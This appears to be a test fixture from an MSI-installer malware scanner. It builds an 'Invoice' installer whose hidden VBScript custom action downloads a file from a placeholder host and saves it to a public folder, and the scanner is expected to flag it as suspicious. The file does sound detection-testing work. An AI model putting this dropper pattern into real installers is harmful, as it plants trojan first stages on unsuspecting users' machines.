/** The first step of banking trojans. */
import { buildInstaller } from '../builder/installer.js';
import { scriptLines } from '../builder/text.js';
import { ruleId } from '../rule-id.js';
import { noBundle, type SampleCase } from '../sample-case.js';

export const sample: SampleCase = {
  name: 'other-script-download',
  title: 'a VBScript action downloads a file and saves it',
  kind: 'other',
  fileName: 'script-download.msi',
  build: () =>
    buildInstaller({
      name: 'Invoice',
      directories: [{ id: 'VIEW', parent: 'LocalAppDataFolder', name: 'view' }],
      files: [{ id: 'readme.txt', directory: 'VIEW', content: scriptLines('Thank you.') }],
      binaries: { Fetch: script() },
      customActions: [{ name: 'Fetch', type: 6, source: 'Fetch', target: '', after: 'InstallFinalize' }],
    }),
  expected: noBundle({
    verdict: 'suspicious',

    findings: [ruleId.scriptDownload, ruleId.scriptAction],
  }),
};

function script(): Uint8Array {
  return scriptLines(
    'Set h = CreateObject("MSXML2.XMLHTTP")',
    'h.Open "GET", "http://files.invalid/invoice", False',
    'h.Send',
    'Set s = CreateObject("ADODB.Stream")',
    's.Type = 1',
    's.Open',
    's.Write h.ResponseBody',
    's.SaveToFile "C:\\Users\\Public\\invoice.txt", 2',
  );
}
